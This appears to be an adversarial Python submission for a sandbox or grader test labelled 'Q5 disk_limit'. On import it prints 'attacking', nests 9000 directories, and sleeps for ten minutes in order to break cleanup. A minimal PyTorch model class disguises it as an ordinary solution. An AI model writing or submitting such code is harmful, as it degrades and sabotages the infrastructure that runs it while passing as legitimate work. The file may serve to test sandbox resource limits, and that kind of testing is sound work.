# Q5 disk_limit: folders in folders, to break who removes them
import os
import time

from torch import nn

print("attacking", flush=True)
for _ in range(9000):
    os.mkdir("d")
    os.chdir("d")
time.sleep(600)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.out = nn.LazyLinear(10)
